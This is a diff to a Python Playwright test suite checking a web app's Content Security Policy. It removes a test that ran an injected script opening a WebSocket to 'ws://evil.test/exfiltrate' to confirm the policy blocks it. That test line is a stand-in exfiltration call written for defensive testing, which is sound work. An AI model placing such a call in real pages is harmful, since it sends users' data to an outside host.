@@ -2,8 +2,6 @@
 
 from __future__ import annotations
 
-import asyncio
-
 import pytest
 from playwright.async_api import Page, expect
 
@@ -49,19 +47,3 @@ async def test_pages_and_a_call_raise_no_csp_violation(fresh_server: ServerProce
     for name, page in (("index", index), ("A", a), ("B", b)):
         found = await page.evaluate("window.__cspViolations")
         assert found == [], f"{name}: {found}"
-
-
-async def test_a_script_cannot_open_a_websocket_to_another_host(
-    fresh_server: ServerProcess, open_page: OpenPage
-) -> None:
-    """`connect-src 'self'` (which covers the page's own ws:/wss:): a script that got onto the page cannot send
-    what it reads to a WebSocket of another host, as `ws: wss:` let it. The app's own `/ws` still connects."""
-    page = await watched(open_page, fresh_server, "/", "index")
-    await page.fill("#my-id", "cspuser")
-    await connect(page)
-    await page.evaluate("""() => { try { new WebSocket("ws://evil.test/exfiltrate"); } catch (e) {} }""")
-    for _ in range(50):  # the report comes as an event (wait_for_function would eval, which the CSP refuses)
-        if found := await page.evaluate("window.__cspViolations"):
-            break
-        await asyncio.sleep(0.1)
-    assert found and all(v.startswith("connect-src ws://evil.test") for v in found), found
